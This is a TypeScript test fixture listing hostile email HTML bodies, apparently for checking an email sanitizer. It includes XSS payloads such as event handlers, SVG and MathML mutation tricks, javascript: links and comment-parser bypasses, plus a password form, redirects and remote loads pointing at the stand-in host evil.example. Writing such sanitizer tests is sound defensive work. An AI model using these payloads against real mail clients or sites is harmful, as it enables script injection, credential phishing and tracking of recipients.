/** Bodies of emails that try to run, fetch, send or redirect: the attempt, and the HTML. Each has the text `Words`. */
export const hostileMails: readonly (readonly [deed: string, html: string])[] = [
  ['a script', '<script>parent.done=1</script>Words'],
  ['an event handler', '<img src=x onerror="parent.done=1">Words<p onclick=x onmouseover="parent.done=1">'],
  [
    'SVG',
    '<svg onload="parent.done=1"><script>parent.done=1</script><a xlink:href="javascript:1"><text>x</text></a></svg>Words',
  ],
  [
    'MathML',
    '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="parent.done=1"></mglyph></table></mtext></math>Words',
  ],
  [
    'a form',
    '<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>Words',
  ],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">Words'],
  ['a base address', '<base href="https://evil.example/">Words<img src="x.png">'],
  [
    'a frame',
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">Words',
  ],
  [
    'a style sheet',
    '<link rel=stylesheet href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css); body{background:url(https://evil.example/c.png)}</style>Words',
  ],
  ['a style attribute', '<div style="position:fixed;inset:0;background:url(https://evil.example/d.png)">Words</div>'],
  [
    'a background',
    '<body background="https://evil.example/e.png"><table background="https://evil.example/f.png"><tr><td>Words</table>',
  ],
  [
    'a remote picture',
    '<img src="https://evil.example/g.png" srcset="https://evil.example/h.png 2x">Words<picture><source srcset="https://evil.example/i.png"></picture>',
  ],
  [
    'a video with a poster',
    '<video poster="https://evil.example/j.png" src="https://evil.example/k.mp4"></video><audio src="https://evil.example/l.mp3"></audio>Words',
  ],
  [
    'an SVG picture as data',
    '<img src="data:image/svg+xml,<svg onload=parent.done=1 xmlns=http://www.w3.org/2000/svg/>">Words',
  ],
  [
    'a javascript link',
    '<a href="javascript:parent.done=1">Words</a><a href=" java&#10;script:parent.done=1">more</a>',
  ],
  [
    'markup behind a comment',
    '<!--><img src=x onerror="parent.done=1">-->Words<noscript><p title="</noscript><img src=x onerror=parent.done=1>">',
  ],
  [
    'a nest of templates',
    '<template><template shadowrootmode=open><img src=x onerror="parent.done=1"></template></template>Words',
  ],
]
